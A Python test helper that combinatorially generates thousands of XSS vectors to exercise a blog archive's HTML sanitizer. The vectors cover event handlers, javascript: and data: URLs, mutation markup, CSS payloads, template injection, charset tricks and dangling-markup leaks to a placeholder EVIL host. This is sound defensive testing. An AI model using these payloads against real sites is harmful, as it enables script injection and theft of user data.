"""Thousands of XSS vectors by kind, as the cheat sheets list them: each kind is a product of its parts.

`draw_vectors` returns some of each kind, the same in each run. Like those of `xss`, each vector calls `alert` or loads a
URL of EVIL.
"""

import random
from collections.abc import Iterator
from itertools import product

from blogarchive.parsing.charset.decoding import decode
from tests.browse.xss import EVIL, VECTORS

_BARE = EVIL.removeprefix("http://")
_CALL = "alert(1)"

_EVENTS = """abort animationcancel animationend animationiteration animationstart auxclick beforecopy beforecut beforeinput
beforematch beforepaste beforetoggle beforexrselect begin blur bounce cancel canplay canplaythrough change click close
contentvisibilityautostatechange contextmenu copy cuechange cut dblclick drag dragend dragenter dragover dragstart drop
durationchange end ended error finish focus focusin focusout formdata fullscreenchange gotpointercapture hashchange input
invalid keydown keypress keyup load loadeddata loadedmetadata loadstart lostpointercapture message mousedown mouseenter
mousemove mouseout mouseover mouseup mousewheel pagehide pageshow paste pause play playing pointercancel pointerdown
pointerenter pointermove pointerrawupdate pointerup popstate progress ratechange readystatechange repeat reset resize
scroll scrollend scrollsnapchange search securitypolicyviolation seeked seeking select selectionchange selectstart
slotchange start stalled submit suspend timeupdate toggle touchcancel touchend touchmove touchstart transitioncancel
transitionend transitionrun transitionstart unhandledrejection unload volumechange waiting webkitanimationend wheel"""
_CARRIERS = (
    "<img src=x {}>",
    "<svg {}>",
    "<body {}>",
    "<details open {}>x</details>",
    "<video autoplay src=x {}></video>",
    "<input autofocus {}>",
    "<x-y tabindex=1 autofocus {}>x</x-y>",
    "<iframe {}></iframe>",
    "<math><mi {}>x</mi></math>",
    "<svg><animate attributeName=x dur=1s {} /></svg>",
)
_ATTRIBUTES = (
    "on{e}={c}",
    "ON{e}='{c}'",
    'on{e}="{c}"',
    "on{e}\n=\t{c}",
    "x=y/on{e}={c}//",
    "x='y'on{e}={c}",
    "\x0con{e}={c}",
    "on{e}=&#97lert&lpar;1&rpar;",
    "on{e}=al\\u0065rt`1`",
    "on{e}={c} on{e}=x",
)

_SCHEMES = (
    "javascript:{c}",
    "JaVaScRiPt:{c}",
    "\tjavascript:{c}",
    " \x01\x1f javascript:{c}",
    "java\tscript:{c}",
    "java\nscript:{c}",
    "java\rscript:{c}",
    "javascript\t:{c}",
    "javascript&colon;{c}",
    "&#106;avascript:{c}",
    "&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A{c}",
    "&#0000106avascript:{c}",
    "java&Tab;script:{c}",
    "java&NewLine;script:{c}",
    "javascript://%0a{c}",
    "javascript://x?%0d%0a{c}",
    "javascript:/*--></title>*/{c}",
    "\ufeffjavascript:{c}",
    "\u3000javascript:{c}",
    "javascript\u200b:{c}",
    "ｊavascript:{c}",
    "vbscript:{c}",
    "livescript:{c}",
    "data:text/html,<script>{c}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg",
    "data:text/html;charset=gbk,<script>{c}</script>",
    "data:,x",
    "data:application/xhtml+xml,<x xmlns='x'/>",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{c}'/>",
    "blob:null/x",
    "filesystem:x",
    "feed:javascript:{c}",
)
_PLACES = (
    '<a href="{}">x</a>',
    '<area href="{}">',
    '<form action="{}"><button autofocus>x</button></form>',
    '<form><button formaction="{}">x</button></form>',
    '<form><input type=submit formaction="{}"></form>',
    '<base href="{}">',
    '<iframe src="{}"></iframe>',
    '<object data="{}"></object>',
    '<embed src="{}">',
    '<meta http-equiv=refresh content="0;url={}">',
    "<meta http-equiv=refresh content=\"0;'{}'\">",
    '<link rel=stylesheet href="{}">',
    '<script src="{}"></script>',
    '<img src="{}">',
    '<img srcset="{} 1x">',
    '<input type=image src="{}">',
    '<video poster="{}"></video>',
    '<video><source src="{}"></video>',
    '<audio src="{}" autoplay></audio>',
    '<table background="{}"><td>x</table>',
    '<svg><a href="{}"><text y=9>x</text></a></svg>',
    '<svg><a xlink:href="{}"><text y=9>x</text></a></svg>',
    '<svg><use href="{}#x"/></svg>',
    '<svg><image href="{}"/></svg>',
    '<svg><feImage href="{}"/></svg>',
    '<svg><script href="{}"/></svg>',
    '<svg><a><animate attributeName=href values="{}"/><text y=9>x</text></a></svg>',
    '<math href="{}">x</math>',
    '<svg><a><set attributeName=xlink:href to="{}"/><text y=9>x</text></a></svg>',
    '<math><mi xlink:href="{}">x</mi></math>',
    '<q cite="{}">x</q>',
    '<a href=/ ping="{}">x</a>',
    '<html manifest="{}">',
    '<portal src="{}"></portal>',
    '<frameset><frame src="{}">',
    '<img longdesc="{}" usemap="{}">',
    '<bgsound src="{}">',
    '<applet codebase="{}" code=x></applet>',
    '<isindex action="{}">',
    '<iframe srcdoc="&lt;a href={}&gt;">',
    "<div style=\"background:url('{}')\">x</div>",
    "[x]({})",
    "![x](<{}>)",
    "<{}>",
)

_ROOTS = ("svg", "math", "")
_POINTS = (
    "",
    "<mtext>",
    "<mi>",
    "<mo>",
    "<ms>",
    "<desc>",
    "<title>",
    "<foreignObject>",
    "<annotation-xml encoding=text/html>",
    "<annotation-xml encoding=application/xhtml+xml>",
    "<mtext><table><mglyph>",
    "<mtext><malignmark>",
    "<mi><table>",
    "<form><math><mtext></form><form>",
    "</p>",
    "</br>",
    "<p>",
    "<table><td>",
    "<select>",
    "<template>",
)
_RAW = (
    "style",
    "textarea",
    "title",
    "xmp",
    "noscript",
    "noembed",
    "noframes",
    "iframe",
    "script",
    "plaintext",
    "template",
    "listing",
    "select",
    "option",
    "button",
    "object",
    "frameset",
    "caption",
)
_INNER = (
    "<{r}><a id='</{r}><img src onerror=alert(1)>'>",
    "<{r}><!--</{r}><img title='--&gt;&lt;img src onerror=alert(1)&gt;'>",
    "<{r}>&lt;/{r}&gt;&lt;img src onerror=alert(1)&gt;</{r}>",
    "<{r}><![CDATA[</{r}><img src onerror=alert(1)>]]></{r}>",
    "<{r}><img src onerror=alert(1)></{r}><img src onerror=alert(1)>",
    "<{r}/><img src onerror=alert(1)>",
)

_VALUES = (
    "url({e}/c.png)",
    "url('{e}/c.png')",
    "u\\72l({e}/c.png)",
    "url(\\000068ttp://{b}/c.png)",
    "image-set('{e}/c.png' 1x)",
    "-webkit-image-set(url({e}/c.png) 1x)",
    "image({e}/c.png)",
    "url(//{b}/c.png)",
    "/**/url(/**/{e}/c.png)",
    "var(--x,url({e}/c.png))",
    "expression(alert(1))",
    "exp/**/ression(alert(1))",
    "url(javascript:alert(1))",
    "src('{e}/c.png')",
    "cross-fade(url({e}/c.png),red)",
)
_PROPERTIES = (
    "background",
    "background-image",
    "list-style",
    "cursor",
    "content",
    "filter",
    "mask",
    "border-image",
    "clip-path",
    "behavior",
    "-moz-binding",
    "src",
    "--x",
    "offset-path",
    "shape-outside",
)
_SHEETS = (
    '<p style="{p}:{v}">x</p>',
    "<style>*{{{p}:{v}}}</style>",
    '<svg><rect style="{p}:{v}" width=9 height=9 /></svg>',
)

_DANGLING = (
    "<img src='{e}/?",
    '<img src="{e}/?',
    "<a href='{e}/?",
    "<base target='",
    "<meta http-equiv=refresh content='0;url={e}/?",
    "<form action='{e}/?'><textarea name=x>",
    "<button formaction={e}/ name='",
    "<style>@import '{e}/?",
    "<table background='{e}/?",
    "<object data='{e}/?",
    "<iframe src='{e}/?",
    "<svg><image href='{e}/?",
    "<link rel=stylesheet href='{e}/?",
    "<!--",
    "<![CDATA[",
    "<textarea>",
    "<title>",
    "<plaintext>",
    "<script>",
    "<noscript>",
    "<xmp>",
    "<select><option>",
    "<math><annotation-xml>",
    "<svg><style>",
    "</main></body></html>",
    "</div></div></article>",
    "</li></ol></main>",
    "</td></tr></table>",
    "</a></h1>",
    "</title></head><body>",
)

_SCRIPTED = (
    "';{c}//",
    '";{c}//',
    "`;{c}//",
    "${{{c}}}",
    "\\';{c}//",
    "\\u0027;{c}//",
    "</script><script>{c}</script>",
    "*/{c}/*",
    "//\u2028{c}",
    "{{{{{c}}}}}",
    "{{{{''.constructor.constructor('{c}')()}}}}",
    "{{%{c}%}}",
    "<%={c}%>",
    "#{{{c}}}",
    "[[${{{c}}}]]",
    "<!--<script>{c}",
    "]]>'><script>{c}</script>",
    "&quot;&gt;&lt;script&gt;{c}&lt;/script&gt;",
    "%3Cscript%3E{c}%3C/script%3E",
    "\\x3cscript\\x3e{c}\\x3c/script\\x3e",
)
_WRAPPERS = (
    "{}",
    "标题{}尾",
    '"{}',
    "'{}",
    "\\{}",
    "{}\n\n{}",
    "*{}*",
    "`{}`",
    "> {}",
    "    {}",
    "| {} |",
    "<!--{}-->",
    "--> {}",
    "\u202e{}",
)

# A lead byte of a Chinese charset takes the quote behind it as a trail byte. The text continues as markup.
_CHARSETS = (
    "gbk",
    "gb18030",
    "big5",
    "shift_jis",
    "euc-kr",
    "euc-jp",
    "iso-2022-jp",
    "hz-gb-2312",
    "utf-7",
    "utf-8",
    "utf-16le",
    "windows-1252",
)
_LEADS = (
    b"\x81",
    b"\xa1",
    b"\xc0",
    b"\xd5",
    b"\xe0",
    b"\xfe",
    b"\xff",
    b"\x1b$B",
    b"\x1b(J",
    b"~{",
    b"\xf0\x8f",
    b"+ACI-",
)
_SWALLOWED = (
    b'<img alt="%s" title=" onerror=alert(1) src=x ">',
    b"<img alt='%s' title=' onerror=alert(1) src=x '>",
    b'<p title="%s"><img title="><img src onerror=alert(1)>">',
    b"%s<script>alert(1)</script>",
    b"<scr%sipt>alert(1)</script>",
)


def _events() -> Iterator[str]:
    for event, carrier, attribute in product(_EVENTS.split(), _CARRIERS, _ATTRIBUTES):
        yield carrier.format(attribute.format(e=event, c=_CALL))


def _urls() -> Iterator[str]:
    for place, scheme in product(
        _PLACES, (*_SCHEMES, f"{EVIL}/u", f"//{_BARE}/u", f"\\\\{_BARE}\\u", f"https:{_BARE}/u")
    ):
        yield place.replace("{}", scheme.format(c=_CALL))


def _mutations() -> Iterator[str]:
    for root, point, raw, inner in product(_ROOTS, _POINTS, _RAW, _INNER):
        yield (f"<{root}>" if root else "<div>") + point + inner.format(r=raw)


def _styles() -> Iterator[str]:
    for sheet, name, value in product(_SHEETS, _PROPERTIES, _VALUES):
        yield sheet.format(p=name, v=value.format(e=EVIL, b=_BARE))


def _texts() -> Iterator[str]:
    for wrapper, text in product(_WRAPPERS, (*_SCRIPTED, *_DANGLING)):
        yield wrapper.replace("{}", text.format(c=_CALL, e=EVIL))


def _charsets() -> Iterator[str]:
    for charset, lead, markup in product(_CHARSETS, _LEADS, _SWALLOWED):
        body = b"<!doctype html><meta charset=%s>%s" % (charset.encode(), markup.replace(b"%s", lead))
        yield decode(body, f"text/html; charset={charset}").text.partition(">")[2]


_KINDS = (_events, _urls, _mutations, _styles, _texts, _charsets)


def draw_vectors(of_each: int) -> tuple[str, ...]:
    """Return the vectors of `xss`, and as many of each kind, or all if a kind has fewer."""
    drawn = random.Random(29)
    found = list(VECTORS)
    for kind in _KINDS:
        vectors = list(dict.fromkeys(kind()))
        found += drawn.sample(vectors, min(of_each, len(vectors)))
    return tuple(dict.fromkeys(found))
